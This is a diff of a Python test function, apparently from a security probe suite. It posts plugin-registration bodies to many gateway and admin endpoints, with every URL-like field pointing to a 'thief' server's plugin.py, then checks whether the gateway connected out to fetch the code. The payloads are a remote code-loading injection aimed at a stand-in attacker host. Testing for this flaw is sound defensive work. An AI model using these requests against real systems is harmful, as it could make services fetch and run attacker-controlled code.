@@ -103,9 +103,10 @@ async def a_plugin_from_a_url(data: Path) -> list[bool]:
         assert len(paths) > 30
         url = f"{thief.url}/plugin.py"
         names = ("cardUrl", "url", "path", "source", "plugin", "module", "run", "uri", "command", "server")
-        body = {"id": "mine", "name": "mine", "enabled": True, **dict.fromkeys(names, url)}
-        for path in (*paths, "/api/plugins", "/plugins", "/admin/plugins", "/admin/agents"):
-            await gateway.client.post(path.replace("{id}", "mine"), json=body)
+        bodies: list[dict[str, Any]] = [{"name": "mine", "enabled": True, "path": url}, dict.fromkeys(names, url)]
+        for path in sorted({*paths, "/api/plugins", "/plugins", "/admin/plugins"}):
+            for body in (*bodies, *({name: url} for name in names)):
+                await gateway.client.post(path.replace("{id}", "mine"), json=body)
         return [thief.connections > 0]
 
 
